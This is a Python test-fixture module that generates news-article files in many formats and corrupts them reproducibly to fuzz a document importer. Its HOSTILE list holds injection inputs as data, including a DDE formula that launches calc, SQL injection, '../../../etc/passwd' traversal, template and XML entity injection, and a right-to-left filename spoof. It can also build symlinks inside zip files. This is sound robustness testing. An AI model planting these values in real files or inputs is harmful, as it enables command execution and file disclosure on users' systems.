"""Sound files of every format, and seeded ways to damage them or to make them dangerous."""

# ruff: noqa: E501  lists of bytes

from __future__ import annotations

import io
import json
import random
import re
import stat
import zipfile
from collections.abc import Callable
from functools import cache

import docx
import odfdo
import openpyxl
from test_formats_pdf import make_pdf

TITLE = "Ministers explain why the harbour talks ended"
BODY = (
    "Ministers from both islands left the table on Tuesday after eleven hours of talks about the "
    "harbour, the ferry and the right to fish in the strait – a “long” day for the café.",
    "The harbour master said that he had “never seen such patience” in a meeting about nets, and "
    "that he would invite both delegations again before the end of the summer.",
)
PARAGRAPHS = (TITLE, "15 May 2024", *BODY)
ROW = {"title": TITLE, "date": "2024-05-15", "outlet": "Post", "author": "A", "text": BODY[0]}
ROWS = [ROW, {**ROW, "title": "Fares rise", "text": BODY[1], "author": "Ann, Bo"}]
FACTIVA = f"""HD {TITLE}
BY Ann Writer
WC 60 words
PD 15 May 2024
SN The Post
LA English
LP {BODY[0]}
TD {BODY[1]}
AN Document POST000020240515ek5f0001
"""
PROQUEST = f"""____________________________________________________________

{TITLE}

Author: Writer, Ann
Publication info: The Post ; London [London]. 15 May 2024: A.1.

Full text: {BODY[0]}

{BODY[1]}

Title: {TITLE}
Publication title: The Post
Publication date: May 15, 2024
ProQuest document ID: 3054321098
Language of publication: English
____________________________________________________________
"""
NEXIS = (
    TITLE, "The Post (London)", "May 15, 2024 Wednesday", "Copyright 2024 The Post",
    "Section: NEWS; Pg. 1", "Length: 60 words", "Byline: Ann Writer", "Body", *BODY,
    "Load-Date: May 15, 2024", "End of Document",
)  # fmt: skip
PACKAGES = ("docx", "odt", "xlsx", "nexis.docx", "zip")
TEXTUAL = ("txt", "factiva.txt", "proquest.txt", "html", "mhtml", "rtf", "csv", "tsv", "json",
           "jsonl", "sources.csv")  # fmt: skip
FORMATS = (*TEXTUAL, *PACKAGES, "pdf")


def _saved(thing) -> bytes:
    file = io.BytesIO()
    thing.save(file)
    return file.getvalue()


def _make_docx(paragraphs) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return _saved(document)


def _make_odt() -> bytes:
    document = odfdo.Document("text")
    document.body.clear()
    document.body.append(odfdo.Header(1, TITLE))
    for text in PARAGRAPHS[1:]:
        document.body.append(odfdo.Paragraph(text))
    return _saved(document)


def _make_xlsx() -> bytes:
    book = openpyxl.Workbook()
    for row in (list(ROW), *(list(row.values()) for row in ROWS)):
        book.active.append(row)
    return _saved(book)


def _make_html() -> str:
    body = "".join(f"<p>{text}</p>" for text in BODY)
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{TITLE}</title>'
        '<meta property="article:published_time" content="2024-05-15T08:09:00Z"></head><body>'
        f"<nav><a href='/'>Home</a></nav><article><h1>{TITLE}</h1>{body}</article></body></html>"
    )


def _make_mhtml() -> str:
    return (
        "From: <Saved>\r\nSnapshot-Content-Location: https://example.org/a\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="B"\r\n\r\n--B\r\nContent-Type: text/html; '
        "charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + _make_html() + "\r\n--B--\r\n"
    )


def _make_rtf() -> str:
    def escape(text):
        return "".join(c if c < "\x80" else f"\\u{ord(c)}?" for c in text)

    body = "".join(f"\\pard {escape(text)}\\par\n" for text in PARAGRAPHS)
    return f"{{\\rtf1\\ansi\\ansicpg1252{{\\fonttbl{{\\f0 Arial;}}}}{body}}}"


def _make_csv(delimiter: str) -> str:
    lines = [list(ROW), *(row.values() for row in ROWS)]
    return "".join(delimiter.join(f'"{cell}"' for cell in line) + "\r\n" for line in lines)


def _make_manifest() -> str:
    head = "id,title,outlet,country,side,genre,published,url,language,licence,standfirst,path"
    first = f'a,"{TITLE}",Post,GB,west,news,2024-05-15,https://example.org/a,en,,"One, two",'
    return f"{head}\n{first}\nb,Fares rise,Post,GB,west,news,2024-05-16T08:09,,en,,,texts/b.txt\n"


def make_zip(members: dict[str, bytes], *, links: tuple[str, ...] = ()) -> bytes:
    """A zip file; the content of a link is where it points."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            if name in links:
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


@cache
def sound(kind: str) -> bytes:
    """A file that can be read."""
    text = "\n\n".join(PARAGRAPHS)
    made = {
        "txt": lambda: text,
        "factiva.txt": lambda: FACTIVA,
        "proquest.txt": lambda: PROQUEST,
        "html": _make_html,
        "mhtml": _make_mhtml,
        "rtf": _make_rtf,
        "csv": lambda: _make_csv(","),
        "tsv": lambda: _make_csv("\t"),
        "json": lambda: json.dumps({"articles": ROWS}, ensure_ascii=False, indent=1),
        "jsonl": lambda: "\n".join(json.dumps(row, ensure_ascii=False) for row in ROWS),
        "sources.csv": _make_manifest,
        "docx": lambda: _make_docx(PARAGRAPHS),
        "odt": _make_odt,
        "xlsx": _make_xlsx,
        "nexis.docx": lambda: _make_docx(NEXIS),
        "zip": lambda: make_zip({"a.txt": text.encode(), "in/b.html": _make_html().encode()}),
        "pdf": lambda: make_pdf(
            [(50, 700 - 14 * i, 10, line) for i, line in enumerate(PARAGRAPHS)]
        ),
    }[kind]()
    return made if isinstance(made, bytes) else made.encode()


# --- damage: each takes the bytes, the format and a source of chance -----------------------------


def flip_bits(data: bytes, kind: str, chance: random.Random) -> bytes:
    damaged = bytearray(data)
    for _ in range(chance.choice((1, 2, 8, 64))):
        damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
    return bytes(damaged)


def truncate(data: bytes, kind: str, chance: random.Random) -> bytes:
    cut = chance.choice((0, 1, 2, 4, len(data) - 1, chance.randrange(len(data))))
    return data[cut:] if chance.random() < 0.3 else data[:cut]


def splice(data: bytes, kind: str, chance: random.Random) -> bytes:
    a, b = sorted(chance.randrange(len(data)) for _ in range(2))
    at = chance.randrange(len(data))
    part = data[a:b] * chance.choice((1, 1, 2, 20))
    return chance.choice((data[:a] + data[b:], data[:at] + part + data[at:], data[b:] + data[:b]))


def add_nulls(data: bytes, kind: str, chance: random.Random) -> bytes:
    run = b"\0" * chance.choice((1, 3, 100, 5000))
    at = chance.choice((0, len(data), chance.randrange(len(data))))
    if chance.random() < 0.3:
        return b"\0".join(data[i : i + 1] for i in range(len(data)))
    return data[:at] + run + data[at:]


ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp1251", "koi8_r", "cp037",
             "big5", "gb18030", "utf-8-sig", "latin-1", "shift_jis")  # fmt: skip


def swap_encoding(data: bytes, kind: str, chance: random.Random) -> bytes:
    text = _text_of(data)
    cyrillic = text.replace("harbour", "гавань").replace("Ministers", "Министры")
    written = chance.choice((text, cyrillic)).encode(chance.choice(ENCODINGS), "replace")
    if chance.random() < 0.3:  # encoded twice, or two encodings in one file
        half = len(data) // 2
        return chance.choice((data.decode("latin-1").encode(), data[:half] + written[half:]))
    return written


def _text_of(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def add_surrogates(data: bytes, kind: str, chance: random.Random) -> bytes:
    forms = (
        b"\xed\xa0\x80", b"\\ud83d", b"\\udc00\\ud800", b"&#xD800;", b"&#55357;", b"\\u-10240?",
        b"\\u55357?", b"\xed\xb0\x80\xed\xa0\xbd", b"\xf4\x90\x80\x80", b"\\u{d800}", b"\xff\xfe\x00\xd8",
    )  # fmt: skip
    return _insert(data, forms, chance)


HOSTILE = (
    b'=HYPERLINK("http://x/?"&A1,"go")', b"=cmd|' /C calc'!A0", b"@SUM(1+1)*cmd", b"+1-1", b"-2+3",
    b'",\r\n"=1+1,"', b"\r\n\r\n\x0b\x0c\x85", b'"""""', b"'; DROP TABLE", b"../../../etc/passwd",
    b"<!DOCTYPE a [<!ENTITY x \"y\">]>&x;", b"<![CDATA[", b"-->", b"{{7*7}}", b"%s%n%d", b"\\\\\\'f",
    "\u202egnp.exe\u2066".encode(), "\ufeff\ufffe\uffff".encode(), "A\u0300".encode() * 300,
    b"9" * 5000, b"1e999999", b"NaN", b"[" * 3000, b'{"a":' * 3000, b"{\\rtf" * 500, b"<div>" * 3000,
    b"9999-99-99", b"0000-00-00T99:99", b"31/02/2024", "٢٠٢٤-٠٥-١٥".encode(), "²³¹".encode(),
    "𝟙𝟚/𝟛𝟜/𝟝𝟞".encode(), b"\x1b[2J\x07", b"\xe2\x80\xa8\xe2\x80\xa9", b"a" * 20000, b"\t" * 3000,
    "١٢٣ words".encode(), "İıſẞŉ".encode(), "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿".encode(), b"con.txt", b"text,text,text", b"id\0,",
)  # fmt: skip


def insert_code(data: bytes, kind: str, chance: random.Random) -> bytes:
    return _insert(data, HOSTILE, chance)


def _insert(data: bytes, forms, chance: random.Random) -> bytes:
    for _ in range(chance.choice((1, 1, 3, 10))):
        spots = [m.start() for m in re.finditer(rb"[A-Za-z] [A-Za-z]|[,>{:\n]", data)] or [0]
        at = chance.choice(spots) + chance.choice((0, 1))
        data = data[:at] + chance.choice(forms) + data[at:]
    return data


def swap_words(data: bytes, kind: str, chance: random.Random) -> bytes:
    """Names, tags and marks exchanged for others of the same file."""
    words = re.findall(rb"\w+|\W+", data)
    for _ in range(chance.choice((1, 5, 50))):
        i, j = (chance.randrange(len(words)) for _ in range(2))
        words[i], words[j] = words[j], words[i]
    return b"".join(words)


def rename(data: bytes, kind: str, chance: random.Random) -> bytes:
    """The content of one format under the name of another."""
    return sound(chance.choice([other for other in FORMATS if other != kind]))


Damage = Callable[[bytes, str, random.Random], bytes]


def inside(damage: Damage) -> Damage:
    """The same damage done to members of a package, which is then packed again soundly."""

    def done(data: bytes, kind: str, chance: random.Random) -> bytes:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = {info.filename: archive.read(info) for info in archive.infolist()}
        telling = [name for name in members if re.search(r"document|content|sheet|shared|\.", name)]
        main = [n for n in members if re.search(r"document\.xml$|content\.xml|sheet1|shared", n)]
        chosen = {chance.choice(telling), chance.choice(main or telling)}
        for name in chosen if chance.random() < 0.5 else {chance.choice(main or telling)}:
            if members[name]:
                members[name] = damage(members[name], kind, chance)
        return make_zip(members)

    return done


DAMAGES: dict[str, Damage] = {
    "bits": flip_bits,
    "cut": truncate,
    "spliced": splice,
    "nulls": add_nulls,
    "encoding": swap_encoding,
    "surrogates": add_surrogates,
    "code": insert_code,
    "words": swap_words,
    "renamed": rename,
}


def make_files(name: str, kind: str, count: int) -> list[bytes]:
    """Some damaged files: the same ones whenever and wherever they are made."""
    data = sound(kind)
    files = []
    for number in range(count):
        chance = random.Random(f"{name} {kind} {number}")
        damage = DAMAGES[name]
        if kind in PACKAGES and name != "renamed" and number % 2:
            damage = inside(damage)
        files.append(damage(data, kind, chance))
    return files
